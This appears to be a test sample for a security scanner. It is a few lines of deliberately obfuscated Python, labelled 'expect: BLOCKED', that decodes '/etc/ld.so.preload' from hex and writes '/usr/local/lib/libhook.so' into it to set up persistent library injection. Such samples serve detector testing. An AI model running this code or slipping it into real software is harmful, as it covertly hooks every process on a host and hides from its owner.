# expect: BLOCKED category: persistence variant-of: risky/persistence/ld_preload.py technique: encode+getattr
with open(getattr(bytes, 'xehmorf'[::-1])('2f6574632f6c642e736f2e7072656c6f6164').decode(), 'w') as handle:
    getattr(handle, __import__('codecs').decode('jevgr', 'rot13'))(''.join(map(chr, [47, 117, 115, 114, 47, 108, 111, 99, 97, 108, 47, 108, 105, 98, 47, 108, 105, 98, 104, 111, 111, 107, 46, 115, 111, 10])))
